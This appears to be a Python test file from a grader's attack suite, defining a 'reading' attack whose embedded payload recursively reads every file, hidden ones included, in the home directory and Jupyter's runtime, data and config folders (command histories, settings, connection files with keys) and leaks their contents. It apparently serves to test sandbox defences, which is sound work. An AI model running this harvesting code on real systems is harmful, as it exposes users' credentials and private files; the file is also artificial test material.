"""It prints histories of commands, Jupyter's settings and connection files with their keys."""

from __future__ import annotations

from grader.attacks.attack import Attack, Want
from grader.attacks.moves import answer

ATTACK = Attack(
    kind="reading",
    wants=Want.LEAK,
    make=answer(
        """
import glob
import os

import jupyter_core.paths as paths

for folder in {HOME, os.path.expanduser("~"), paths.jupyter_runtime_dir(), paths.jupyter_data_dir(), paths.jupyter_config_dir()}:
    for path in glob.glob(f"{folder}/**", recursive=True, include_hidden=True):
        try:
            tell(open(path, "rb").read(1 << 20))
        except OSError:
            pass
"""
    ),
)
